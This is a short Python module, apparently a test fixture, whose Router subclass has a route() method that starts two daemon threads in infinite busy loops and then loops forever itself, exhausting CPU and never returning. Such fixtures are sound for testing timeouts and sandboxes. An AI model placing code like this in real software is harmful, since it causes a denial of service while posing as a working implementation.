import threading

from _router import Router as _R


def spin():
    while True:
        pass


class Router(_R):
    def route(self, key):
        for _ in range(2):
            threading.Thread(target=spin, daemon=True).start()
        spin()
